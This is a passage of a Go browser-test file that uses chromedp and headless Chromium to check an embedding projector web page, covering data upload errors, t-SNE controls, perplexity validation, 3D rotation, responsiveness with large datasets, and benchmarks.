	// reads it. The banner names the cause and offers "treat first line as header".
	vectors := readShared(t, "sklearn-wine-tsv/vectors.tsv")
	labels := []byte("cultivar\n")
	for i := 0; i < 178; i++ {
		labels = append(labels, []byte(strconv.Itoa(i%3)+"\n")...)
	}
	dir := t.TempDir()
	writeFiles(t, dir, map[string][]byte{"vectors.tsv": vectors, "labels.tsv": labels})
	upload(t, ctx, filepath.Join(dir, "vectors.tsv"), filepath.Join(dir, "labels.tsv"))
	st := waitStatus(t, ctx, 60*time.Second, "the header error", func(st status) bool { return st.Phase == "error" })
	if !slices.Contains(st.codes(), "metadata-header-single-column") {
		t.Fatalf("codes %v lack metadata-header-single-column", st.codes())
	}
	sel := `#fixes button[data-code="metadata-header-single-column"]`
	label, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(() => { const b = document.querySelector('`+sel+`'); return b && b.offsetParent ? b.textContent : '' })()`))
	if err != nil || label == "" {
		t.Fatalf("no visible fix button for the header line (%v)", err)
	}
	t.Logf("fix button: %q", label)
	// The buttons follow the banner's height once it is drawn: click when they stay put.
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`new Promise((resolve) => {
		let last = '';
		const check = () => {
			const r = document.querySelector('`+sel+`').getBoundingClientRect();
			const now = r.x + ',' + r.y;
			if (now === last) resolve(true); else { last = now; setTimeout(check, 250); }
		};
		check();
	})`, chromedp.EvalAwaitPromise)); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(sel))); err != nil {
		t.Fatalf("clicking the fix: %v", err)
	}
	st = waitStatus(t, ctx, 60*time.Second, "ready after the fix", func(st status) bool {
		return (st.Phase == "ready" && st.Points == 178) || (st.Phase == "error" && !slices.Contains(st.codes(), "metadata-header-single-column"))
	})
	if st.Phase != "ready" {
		t.Fatalf("after the fix: %+v", st)
	}
	hidden, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.getElementById('fixes').hidden`))
	if err != nil || !hidden {
		t.Errorf("fix buttons still shown after the data became ready (%v)", err)
	}
}

// setControl changes a projection control as a user would (value + change event).
func setControl(t testing.TB, ctx context.Context, id, value string) {
	t.Helper()
	js := `(() => { const el = document.getElementById('` + id + `'); el.value = '` + value + `';
		el.dispatchEvent(new Event('change', {bubbles: true})); return el.value; })()`
	if got, err := chromedp.Run(ctx, chromedp.Evaluate[string](js)); err != nil || got != value {
		t.Fatalf("setting #%s to %q: got %q, %v", id, value, got, err)
	}
}

func TestTSNEFromTheControls(t *testing.T) {
	_, ctx := demoPage(t)
	setControl(t, ctx, "ctl-method", "tsne")
	st := waitStatus(t, ctx, 60*time.Second, "t-SNE iterating", func(st status) bool {
		return st.Method == "tsne" && st.Iteration >= 100
	})
	if st.Phase != "reducing" || st.Layout != 2 {
		t.Errorf("while t-SNE runs: %+v", st)
	}
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.ID("ctl-run"))); err != nil { // "Pause"
		t.Fatal(err)
	}
	paused := waitStatus(t, ctx, 10*time.Second, "t-SNE paused", func(st status) bool { return st.Phase == "ready" })
	time.Sleep(500 * time.Millisecond)
	if again, err := readStatus(ctx); err != nil || again.Iteration != paused.Iteration {
		t.Errorf("paused at %d, then iteration %d (%v)", paused.Iteration, again.Iteration, err)
	}
	label, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById('ctl-run').textContent`))
	if label != "Resume" {
		t.Errorf("run button says %q while paused", label)
	}
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.ID("ctl-run"))); err != nil { // "Resume"
		t.Fatal(err)
	}
	waitStatus(t, ctx, 30*time.Second, "t-SNE resumed", func(st status) bool { return st.Iteration > paused.Iteration+20 })

	// 3D: t-SNE restarts in three dimensions; dragging turns the view.
	setControl(t, ctx, "ctl-dims", "3")
	waitStatus(t, ctx, 60*time.Second, "3D t-SNE", func(st status) bool { return st.Layout == 3 && st.Iteration >= 50 })
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.ID("ctl-run"))); err != nil { // pause, so only the drag moves it
		t.Fatal(err)
	}
	waitStatus(t, ctx, 10*time.Second, "3D t-SNE paused", func(st status) bool { return st.Phase == "ready" })
	before := screenshot(t, ctx)
	drag(t, ctx, 640, 300, 20, 0, 5)
	mouse(t, ctx, input.DispatchMouseEventTypeMouseMoved, 5, 5, nil)
	time.Sleep(300 * time.Millisecond)
	turned := screenshot(t, ctx)
	if n := diffPixels(before, turned, plotArea); n < 5000 {
		t.Errorf("turning the 3D view changed only %d pixels", n)
	}
}

// panelText returns the text of element id and whether it is shown.
func panelText(t *testing.T, ctx context.Context, id string) (string, bool) {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[[]any](`(() => { const el = document.getElementById('`+id+`');
		return el ? [el.textContent, !el.hidden && el.getClientRects().length > 0] : ['', false]; })()`))
	if err != nil || len(v) != 2 {
		t.Fatalf("reading #%s: %v %v", id, v, err)
	}
	text, _ := v[0].(string)
	shown, _ := v[1].(bool)
	return text, shown
}

// waitPanel polls element id for up to 10 s until ok accepts its text and
// visibility, and returns the last seen.
func waitPanel(t *testing.T, ctx context.Context, id string, ok func(text string, shown bool) bool) (string, bool) {
	t.Helper()
	text, shown := panelText(t, ctx, id)
	for deadline := time.Now().Add(10 * time.Second); !ok(text, shown) && time.Now().Before(deadline); {
		time.Sleep(100 * time.Millisecond)
		text, shown = panelText(t, ctx, id)
	}
	return text, shown
}

func TestPerplexityAndStagesInThePanel(t *testing.T) {
	_, ctx := demoPage(t)
	upload(t, ctx, wineFiles(t)...)
	expectWine(t, ctx, "the wine data")
	setControl(t, ctx, "ctl-method", "tsne")
	// The panel says the stage and its progress as the status does (178
	// points may finish between two looks: iterating or done).
	st := waitStatus(t, ctx, 60*time.Second, "t-SNE iterating", func(st status) bool {
		return st.Method == "tsne" && st.Iteration > 0 && (st.TSNEPhase == "iterating" || st.TSNEPhase == "done")
	})
	if text, shown := panelText(t, ctx, "ctl-progress"); !shown || !strings.Contains(text, "iteration") || !strings.Contains(text, "/ 1,000") {
		t.Errorf("#ctl-progress shows %q (shown %v) while the status says %q", text, shown, st.Text)
	}
	waitStatus(t, ctx, 60*time.Second, "t-SNE finished", func(st status) bool {
		return st.Iteration == 1000 && st.Phase == "ready" && st.TSNEPhase == "done"
	})

	// (178−1)/3 = 59 is the largest perplexity: 1 and 60 are said in the panel.
	for _, bad := range []string{"1", "60"} {
		setControl(t, ctx, "ctl-perplexity", bad)
		msg, shown := waitPanel(t, ctx, "ctl-message", func(text string, shown bool) bool {
			return shown && strings.Contains(text, "Perplexity "+bad+" ")
		})
		if !shown || !strings.Contains(msg, "from 2 to 59") || !strings.Contains(msg, "178 points") {
			t.Errorf("perplexity %s: #ctl-message %q (shown %v)", bad, msg, shown)
		}
		role, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById('ctl-message').getAttribute('role')`))
		if role != "alert" {
			t.Errorf("#ctl-message has role %q, want alert", role)
		}
	}
	if st, _ := readStatus(ctx); st.Iteration != 1000 || st.Phase != "ready" {
		t.Errorf("a refused perplexity changed the run: %+v", st)
	}
	// A valid one clears the message and runs the finished t-SNE again.
	finished, err := readStatus(ctx)
	if err != nil {
		t.Fatal(err)
	}
	setControl(t, ctx, "ctl-perplexity", "10")
	// Seen running again, or already finished again with another KL (178
	// points may run 1,000 iterations between two looks).
	waitStatus(t, ctx, 60*time.Second, "t-SNE run again", func(st status) bool {
		return (st.Phase == "reducing" && st.Iteration < 1000) || (st.TSNEPhase == "done" && st.KL != finished.KL)
	})
	if msg, shown := waitPanel(t, ctx, "ctl-message", func(text string, shown bool) bool { return !shown && text == "" }); shown || msg != "" {
		t.Errorf("#ctl-message still says %q (shown %v) after a valid perplexity", msg, shown)
	}
	again := waitStatus(t, ctx, 60*time.Second, "the new run finished", func(st status) bool { return st.Iteration == 1000 && st.Phase == "ready" })
	if again.KL == finished.KL {
		t.Errorf("perplexity 10 ended with the KL of perplexity 30 (%g)", again.KL)
	}
}

// writeClusters writes n points of d dims in k Gaussian clusters as a raw
// float32 .bytes file plus a one-column label file, and returns their paths.
func writeClusters(t testing.TB, n, d, k int) (string, string) {
	t.Helper()
	dir := t.TempDir()
	vec := make([]byte, 0, n*d*4)
	var labels []byte
	seed := uint64(12345)
	rnd := func() float64 { // xorshift, uniform in [0, 1)
		seed ^= seed << 13
		seed ^= seed >> 7
		seed ^= seed << 17
		return float64(seed>>11) / (1 << 53)
	}
	centres := make([]float64, k*d)
	for i := range centres {
		centres[i] = 8 * (rnd() - 0.5)
	}
	for i := 0; i < n; i++ {
		c := i % k
		for j := 0; j < d; j++ {
			v := float32(centres[c*d+j] + (rnd()+rnd()+rnd()-1.5)*1.2)
			b := math.Float32bits(v)
			vec = append(vec, byte(b), byte(b>>8), byte(b>>16), byte(b>>24))
		}
		labels = append(labels, []byte("cluster "+strconv.Itoa(c)+"\n")...)
	}
	tp, lp := filepath.Join(dir, "clusters.bytes"), filepath.Join(dir, "clusters_labels.tsv")
	writeFiles(t, dir, map[string][]byte{"clusters.bytes": vec, "clusters_labels.tsv": labels})
	return tp, lp
}

func TestPageStaysResponsiveDuringTSNE10k(t *testing.T) {
	_, ctx := demoPage(t)
	tp, lp := writeClusters(t, 10000, 32, 10)
	upload(t, ctx, tp, lp)
	waitStatus(t, ctx, 60*time.Second, "10,000 points by PCA", func(st status) bool {
		return st.Phase == "ready" && st.Points == 10000 && st.Dims == 32
	})
	watchLongTasks(t, ctx)
	// Count the worker's messages: the run must be the worker's (its data
	// handed over in pieces), not a fall-back on the page's thread.
	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
		window.__worker = {progress: 0, error: 0, errors: []};
		projectorWorker().addEventListener('message', (e) => {
			window.__worker[e.data.type] = (window.__worker[e.data.type] || 0) + 1;
			if (e.data.type === 'error') window.__worker.errors.push(e.data.message);
		});
	})()`)); err != nil {
		t.Fatal(err)
	}
	setControl(t, ctx, "ctl-method", "tsne")
	// Ten seconds of t-SNE; hover around and sample the status every second.
	// The status must keep changing (preparation progress, then iterations):
	// how far t-SNE gets depends on the machine, which is not asserted.
	texts := map[string]bool{}
	var last status
	for i := 0; i < 10; i++ {
		mouse(t, ctx, input.DispatchMouseEventTypeMouseMoved, 300+float64(60*i), 350, nil)
		time.Sleep(time.Second)
		st, err := readStatus(ctx)
		if err != nil {
			t.Fatal(err)
		}
		texts[st.Text] = true
		last = st
	}
	long := longTasks(t, ctx)
	// Long tasks are reported, not asserted: tests never assert timings (a
	// loaded or slower machine lengthens every task).
	t.Logf("after 10 s: iteration %d, %q; long tasks (ms): %v (longest %.0f)", last.Iteration, last.Text, long, slices.Max(append(long, 0)))
	if last.Method != "tsne" || last.Phase != "reducing" {
		t.Errorf("after 10 s the status is %+v, want t-SNE still running", last)
	}
	if len(texts) < 3 {
		t.Errorf("the status showed only %d distinct sentences in 10 samples: it stopped updating", len(texts))
	}
	type counts struct {
		Progress int      `json:"progress"`
		Error    int      `json:"error"`
		Errors   []string `json:"errors"`
	}
	w, err := chromedp.Run(ctx, chromedp.Evaluate[counts](`window.__worker`))
	if err != nil {
		t.Fatal(err)
	}
	if w.Progress < 10 || w.Error > 0 {
		t.Errorf("the worker sent %d progress and %d error messages (%q): t-SNE did not run there", w.Progress, w.Error, w.Errors)
	}
}

func TestUploadZipOfLogFolder(t *testing.T) {
	_, ctx := demoPage(t)
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, data := range map[string][]byte{
		"run1/projector_config.json": []byte(`{"embeddings":[{"tensorName":"wine","tensorPath":"vectors.tsv","metadataPath":"metadata.tsv"}]}`),
		"run1/vectors.tsv":           readShared(t, "sklearn-wine-tsv/vectors.tsv"),
		"run1/metadata.tsv":          readShared(t, "sklearn-wine-tsv/metadata.tsv"),
	} {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	writeFiles(t, dir, map[string][]byte{"logs.zip": buf.Bytes()})
	upload(t, ctx, filepath.Join(dir, "logs.zip"))
	expectWine(t, ctx, "the zipped log folder")
}

func TestLargeTSVLoadsInSlicesWithProgress(t *testing.T) {
	_, ctx := demoPage(t)
	// About 90 MB of tensor text: 120,000 points × 96 dims.
	const n, d = 120000, 96
	var b bytes.Buffer
	b.Grow(n * d * 8)
	seed := uint32(7)
	for i := 0; i < n; i++ {
		for j := 0; j < d; j++ {
			seed = seed*1664525 + 1013904223
			if j > 0 {
				b.WriteByte('\t')
			}
			b.WriteString(strconv.FormatFloat(float64(int32(seed>>8))/1e7, 'f', 4, 32))
		}
		b.WriteByte('\n')
	}
	dir := t.TempDir()
	writeFiles(t, dir, map[string][]byte{"big.tsv": b.Bytes()})
	t.Logf("big.tsv: %d bytes", b.Len())
	watchLongTasks(t, ctx)
	upload(t, ctx, filepath.Join(dir, "big.tsv"))
	// Sample the status while it reads: it reports progress and the size estimate.
	var progress []string
	deadline := time.Now().Add(120 * time.Second)
	var st status
	for time.Now().Before(deadline) {
		var err error
		if st, err = readStatus(ctx); err != nil {
			t.Fatal(err)
		}
		if st.Phase == "parsing" && strings.Contains(st.Text, "%") && (len(progress) == 0 || progress[len(progress)-1] != st.Text) {
			progress = append(progress, st.Text)
		}
		if (st.Phase == "ready" || st.Phase == "reducing") && st.Points == n || st.Phase == "error" {
			break
		}
		time.Sleep(30 * time.Millisecond)
	}
	if st.Points != n || st.Dims != d {
		t.Fatalf("status %+v, want %d×%d", st, n, d)
	}
	t.Logf("%d progress sentences, e.g. %q", len(progress), progress)
	if len(progress) < 2 {
		t.Errorf("saw %d distinct progress reports while reading 90 MB: %q", len(progress), progress)
	}
	if !slices.ContainsFunc(progress, func(p string) bool { return strings.Contains(p, "120,000 × 96") || strings.Contains(p, "× 96 (") }) {
		t.Errorf("no progress report gave the N×D estimate and memory: %q", progress)
	}
	long := longTasks(t, ctx) // reported, not asserted (no timing asserts)
	t.Logf("long tasks while reading (ms): %v (longest %.0f)", long, slices.Max(append(long, 0)))
}

func TestRawTensorAsksForItsShape(t *testing.T) {
	_, ctx := demoPage(t)
	raw, err := filepath.Abs("../../wasm/demo/digits_tensors.bytes")
	if err != nil {
		t.Fatal(err)
	}
	upload(t, ctx, raw)
	st := waitStatus(t, ctx, 60*time.Second, "the shape error", func(st status) bool { return st.Phase == "error" })
	if !slices.Contains(st.codes(), "shape-missing") {
		t.Fatalf("codes %v lack shape-missing", st.codes())
	}
	visible, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.getElementById('shape-ask').offsetParent !== null`))
	if err != nil || !visible {
		t.Fatalf("the shape form is not shown (%v)", err)
	}
	if err := chromedp.Do(ctx,
		chromedp.SendKeys(chromedp.ID("shape-dims"), "64"),
		chromedp.Click(chromedp.CSS(`#shape-ask button`)),
	); err != nil {
		t.Fatal(err)
	}
	st = waitStatus(t, ctx, 60*time.Second, "ready with 64 dims", func(st status) bool {
		return (st.Phase == "ready" && st.Points == 1797) || (st.Phase == "error" && !slices.Contains(st.codes(), "shape-missing"))
	})
	if st.Phase != "ready" || st.Dims != 64 {
		t.Fatalf("after giving the shape: %+v", st)
	}
}

// watchLongTasks starts recording the page's main-thread long tasks (≥ 50 ms).
func watchLongTasks(t testing.TB, ctx context.Context) {
	t.Helper()
	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
		window.__long = [];
		new PerformanceObserver((list) => { for (const e of list.getEntries()) window.__long.push(Math.round(e.duration)); })
			.observe({type: 'longtask'});
	})()`)); err != nil {
		t.Fatal(err)
	}
}

// longTasks returns the durations (ms) of the long tasks since watchLongTasks.
func longTasks(t testing.TB, ctx context.Context) []float64 {
	t.Helper()
	long, err := chromedp.Run(ctx, chromedp.Evaluate[[]float64](`window.__long`))
	if err != nil {
		t.Fatal(err)
	}
	return long
}

// BenchmarkTSNEDigitsInPage measures, in headless Chromium, the seconds from
// choosing t-SNE on the bundled digits demo (1,797 × 64) to its 1,000th
// iteration, everything included (kNN, P, iterations, the page's drawing).
func BenchmarkTSNEDigitsInPage(b *testing.B) {
	for i := 0; i < b.N; i++ {
		s := startServer(b)
		ctx, closeBrowser := startBrowser(b, s)
		open(b, ctx, s)
		start := time.Now()
		setControl(b, ctx, "ctl-method", "tsne")
		st := waitStatus(b, ctx, 5*time.Minute, "1,000 iterations", func(st status) bool { return st.Method == "tsne" && st.Iteration >= 1000 })
		b.ReportMetric(time.Since(start).Seconds(), "s-to-1000-iterations")
		b.ReportMetric(st.KL, "KL")
		closeBrowser()
	}
}

func TestHideWarnings(t *testing.T) {
	_, ctx := demoPage(t)
	// sklearn's CSV starts with a count line: skipped, with a warning.
	upload(t, ctx, sharedData(t, "raw-sources/sklearn-1.2.1-debian/breast_cancer.csv"))
	st := waitStatus(t, ctx, 60*time.Second, "the CSV", func(st status) bool { return st.Phase == "ready" && st.Points == 569 })
	if !slices.Contains(st.codes(), "tensor-header-row") {
		t.Fatalf("codes %v lack the tensor-header-row warning", st.codes())
	}
	amber := func() int {
		img := screenshot(t, ctx)
		n := 0
		for y := 14; y < 40; y++ {
			for x := 14; x < 600; x++ {
				r, g, b, _ := img.At(x, y).RGBA()
				if r>>8 > 0x60 && g>>8 > 0x40 && g>>8 < 0x60 && b>>8 < 0x20 {
					n++
				}
			}
		}
		return n
	}
	if n := amber(); n < 2000 {
		t.Fatalf("only %d amber banner pixels before hiding", n)
	}
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(`#fixes button[data-control="banner"]`))); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	if n := amber(); n > 0 {
		t.Errorf("%d amber banner pixels after hiding the warnings", n)
	}
	if st, err := readStatus(ctx); err != nil || !slices.Contains(st.codes(), "tensor-header-row") {
		t.Errorf("after hiding, #status lost the warning: %+v %v", st, err)
	}
}

func TestColourByNumericColumn(t *testing.T) {
	_, ctx := demoPage(t)
	upload(t, ctx, wineFiles(t)...)
	expectWine(t, ctx, "the wine data")
	// proline (column 4) is numeric: a gradient; its top colour is viridis yellow.
	setControl(t, ctx, "ctl-color", "3")
	time.Sleep(300 * time.Millisecond)
	_, colours := pixelStats(screenshot(t, ctx), plotArea, background)
	if colours[[3]uint8{0xfd >> 4, 0xe7 >> 4, 0x25 >> 4}] < 20 {
		t.Errorf("no yellow (the gradient's maximum) on screen after colouring by proline")
	}
	label, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById('ctl-color').selectedOptions[0].textContent`))
	if err != nil || label != "proline" {
		t.Errorf("colour-by select shows %q (%v)", label, err)
	}
}

// BenchmarkTSNEFashion70kInPage measures the page on Fashion-MNIST's 70,000
// images (784 dims, written as a float32 .npy with their labels; the data
// come from scripts/benchdata.sh): seconds from choosing the files to the
// PCA on screen, then from choosing t-SNE to its 1,000th iteration on every
// point, and the longest main-thread task meanwhile. Minutes per run.
func BenchmarkTSNEFashion70kInPage(b *testing.B) {
	const n, d = 70000, 784
	src := filepath.Join("..", "..", ".cache", "bench", "fashion70k_70000x784")
	raw, err := os.ReadFile(src + ".f32.bin")
	if err != nil {
		b.Skipf("generated benchmark data not available (run scripts/benchdata.sh): %v", err)
	}
	if len(raw) != 4*n*d {
		b.Fatalf("%s.f32.bin: %d bytes, want %d", src, len(raw), 4*n*d)
	}
	dir := b.TempDir()
	header := fmt.Sprintf("{'descr': '<f4', 'fortran_order': False, 'shape': (%d, %d), }", n, d)
	for (10+len(header)+1)%64 != 0 {
		header += " "
	}
	header += "\n"
	npy := append([]byte("\x93NUMPY\x01\x00"), byte(len(header)), byte(len(header)>>8))
	npy = append(append(npy, header...), raw...)
	tensors, labels := filepath.Join(dir, "fashion70k.npy"), filepath.Join(dir, "fashion70k_labels.tsv")
	if err := os.WriteFile(tensors, npy, 0o644); err != nil {
		b.Fatal(err)
	}
	lab, err := os.ReadFile(src + ".labels.tsv")
	if err != nil {
		b.Fatal(err)
	}
	if err := os.WriteFile(labels, lab, 0o644); err != nil {
		b.Fatal(err)
	}
	for i := 0; i < b.N; i++ {
		s := startServer(b)
		ctx, closeBrowser := startBrowserFor(b, s, 20*time.Minute)
		open(b, ctx, s)
		watchLongTasks(b, ctx)
		start := time.Now()
		upload(b, ctx, tensors, labels)
		waitStatus(b, ctx, 5*time.Minute, "the PCA of 70,000 points", func(st status) bool {
			return st.Phase == "ready" && st.Points == n && st.Method == "pca" // ready: the PCA is done
		})
		b.ReportMetric(time.Since(start).Seconds(), "s-to-pca")
		b.ReportMetric(slices.Max(append(longTasks(b, ctx), 0)), "longest-task-loading-ms")
		if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`window.__long.length = 0`)); err != nil {
			b.Fatal(err)
		}
		start = time.Now()
		setControl(b, ctx, "ctl-method", "tsne")
		st := waitStatus(b, ctx, 15*time.Minute, "1,000 iterations", func(st status) bool { return st.Method == "tsne" && st.Iteration >= 1000 })
		b.ReportMetric(time.Since(start).Seconds(), "s-to-1000-iterations")
		b.ReportMetric(st.KL, "KL")
		long := longTasks(b, ctx)
		b.Logf("long tasks during t-SNE (ms): %v", long)
		b.ReportMetric(slices.Max(append(long, 0)), "longest-task-tsne-ms")
		closeBrowser()
	}
}
